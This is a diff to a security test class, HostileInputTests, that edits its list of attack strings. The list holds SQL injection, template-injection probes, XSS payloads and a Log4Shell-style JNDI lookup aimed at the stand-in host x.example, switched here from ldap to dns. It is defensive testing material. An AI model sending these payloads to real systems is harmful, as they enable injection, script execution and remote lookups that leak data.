@@ -48,7 +48,7 @@ class HostileInputTests {
                 "' or '1'='1",
                 "${71*9337} {{71*9337}} #{71*9337}",
                 "<%= 71*9337 %> @{71*9337}",
-                "${jndi:ldap://x.example/a}",
+                "${jndi:dns:x.example/a}",
                 "<script>alert(1)</script>",
                 "<img src=x onerror=alert(1)>",
                 "\" autofocus onfocus=\"alert(1)",
